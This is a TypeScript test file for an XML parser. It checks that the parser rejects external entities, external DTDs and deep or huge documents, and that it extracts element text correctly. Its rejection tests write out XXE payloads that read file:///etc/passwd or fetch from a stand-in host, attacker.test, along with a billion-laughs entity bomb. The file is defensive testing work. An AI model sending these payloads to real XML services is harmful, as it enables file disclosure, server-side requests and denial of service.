import fc from 'fast-check';
import { child, parseXml, textIn } from './xml';

const textOf = (xml: string) => textIn(child(parseXml(xml), 'a'));

describe('forbidden content of an envelope', () => {
  it.each([
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['an entity from the network', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://attacker.test/">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.test/"> %x;]><a>b</a>'],
    ['an entity of its own', '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'],
    ['an external document type', '<!DOCTYPE a SYSTEM "http://attacker.test/a.dtd"><a>b</a>'],
    ['an empty document type', '<!doctype a><a>b</a>'],
    ['a document type behind a comment', '<?xml version="1.0"?><!-- - --><!DOCTYPE a><a>b</a>'],
  ])('is %s', (_what, xml) => {
    expect(parseXml(xml)).toBeUndefined();
  });

  it('is entity expansion', () => {
    const laughs = Array.from({ length: 20 }, (_, index) => {
      const times = `&l${String(index)};`.repeat(10);
      return `<!ENTITY l${String(index + 1)} "${times}">`;
    });
    expect(parseXml(`<!DOCTYPE a [<!ENTITY l0 "ha">${laughs.join('')}]><a>&l20;</a>`)).toBeUndefined();
  });

  it('is unlimited nesting', () => {
    expect(parseXml('<a>'.repeat(50_000))).toBeUndefined();
    expect(parseXml('<a>'.repeat(5_000) + '</a>'.repeat(5_000))).toBeUndefined();
  });

  it('is an unlimited number of elements', () => {
    expect(parseXml(`<a>${'<b/>'.repeat(500_000)}</a>`)).toBeUndefined();
  });

  it.each(['', 'OK', '{"a":1}', '<a>', '<a></b>', '<html><body><br></body></html>'])(
    'is what is no XML: %j',
    (text) => {
      expect(parseXml(text)).toBeUndefined();
    },
  );

  it('never throws, whatever the text', () => {
    const pieces = [
      '<a>',
      '</a>',
      '<',
      '&',
      '&#0;',
      '&#x110000;',
      '<![CDATA[',
      ']]>',
      '<!--',
      '<?',
      '__proto__',
      ' ',
    ];
    const text = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string())).map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, (xml) => {
        textOf(xml);
      }),
    );
  });
});

describe('the text of an element', () => {
  it.each([
    ['plain', '<a>b</a>', 'b'],
    ['in CDATA, kept as it is', '<a><![CDATA[ISA*00&lt;~\n]]></a>', 'ISA*00&lt;~\n'],
    ['in CDATA, with blanks around it', '<a>\n  <![CDATA[b]]>\n</a>', 'b'],
    ['in two CDATA sections', '<a><![CDATA[b]]]]><![CDATA[>c]]></a>', 'b]]>c'],
    ['with the five entities', '<a>&lt;&gt;&amp;&quot;&apos;</a>', '<>&"\''],
    ['with character references', '<a>b&#13;&#xA;c</a>', 'b\r\nc'],
    ['with an escaped reference, which is resolved once', '<a>&amp;lt;</a>', '&lt;'],
    ['with an undeclared entity', '<a>&x;</a>', '&x;'],
    ['empty', '<a/>', ''],
    ['that looks like a number', '<a>2.20</a>', '2.20'],
    ['with a prefix', '<x:a xmlns:x="urn:x">b</x:a>', 'b'],
  ])('is found %s', (_how, xml, expected) => {
    expect(textOf(xml)).toBe(expected);
  });

  it.each([
    ['has children', '<a><b/></a>'],
    ['has text on both sides of CDATA', '<a>b<![CDATA[c]]></a>'],
    ['is not there', '<b/>'],
  ])('is undefined when it %s', (_how, xml) => {
    expect(textOf(xml)).toBeUndefined();
  });

  it('is undefined when the element is there twice', () => {
    expect(textIn(child(child(parseXml('<r><a>1</a><a>2</a></r>'), 'r'), 'a'))).toBeUndefined();
  });

  it('is not a property that every object inherits', () => {
    expect(child(parseXml('<a>b</a>'), 'constructor')).toBeUndefined();
  });
});
